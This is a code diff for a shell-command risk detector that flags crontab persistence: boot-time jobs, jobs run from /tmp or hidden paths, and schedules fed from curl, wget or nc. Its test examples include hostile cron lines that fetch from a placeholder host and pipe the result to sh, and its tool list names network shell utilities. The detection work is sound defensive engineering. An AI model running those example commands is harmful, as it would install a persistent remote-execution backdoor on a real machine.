@@ -17,6 +17,23 @@ function echoedContent(inv: Invocation): string | undefined {
   return undefined;
 }
 
+/** Cron lines that start at boot or run from throwaway or hidden places. */
+const RISKY_CRON = /@reboot\b|(?:^|[\s'"=])\/(?:tmp|dev\/shm|var\/tmp)\/|\/\.[A-Za-z0-9]/;
+
+/** What `crontab` installs, where it can be seen: a downloaded table, echoed risky lines, a file in /tmp. */
+function cronContentRisky(inv: Invocation): boolean {
+  const file = operands(inv.args, new Set(["-u"]))[0];
+  if (file !== undefined && file !== "-" && RISKY_CRON.test(` ${file}`)) return true;
+  for (const element of inv.pipe?.elements.slice(0, inv.pipe.index) ?? []) {
+    for (const up of element) {
+      if (["curl", "wget", "nc", "ncat", "base64", "xxd"].includes(up.name.toLowerCase())) return true;
+      const content = echoedContent(up);
+      if (content !== undefined && (RISKY_CONTENT.test(content) || RISKY_CRON.test(content))) return true;
+    }
+  }
+  return false;
+}
+
 const WRITERS = new Set(["tee", "cp", "mv", "install", "ln", "rsync", "dd", "sed", "perl"]);
 const WRITER_VALUE_OPTIONS = new Set(["-m", "-o", "-g", "--mode", "-t"]);
 const NO_FILES: string[] = [];
@@ -84,10 +101,14 @@ export const persistenceRules: CommandRule[] = [
     check: (inv) => {
       if (inv.args.includes("-l")) return false;
       if (inv.args.includes("-r")) return "medium";
-      return operands(inv.args, new Set(["-u"])).length > 0 || inv.pipe !== undefined || inv.args.includes("-");
+      const piped = inv.pipe !== undefined || inv.args.includes("-");
+      if (!piped && operands(inv.args, new Set(["-u"])).length === 0) return false;
+      // A schedule whose lines we can read is judged by them; one we cannot see is still a
+      // job installed to run unattended: review it.
+      return cronContentRisky(inv) ? true : "medium";
     },
     examples: {
-      positive: ["echo '*/5 * * * * curl -s http://x/p | sh' | crontab -", "(crontab -l; echo '@reboot /tmp/.x') | crontab -", "crontab /tmp/jobs.txt", "crontab -r"],
+      positive: ["echo '*/5 * * * * curl -s http://x/p | sh' | crontab -", "(crontab -l; echo '@reboot /tmp/.x') | crontab -", "curl -s http://x/cron.txt | crontab -", "crontab /tmp/jobs.txt", "crontab -r"],
       negative: ["crontab -l", "crontab -e"],
     },
   },
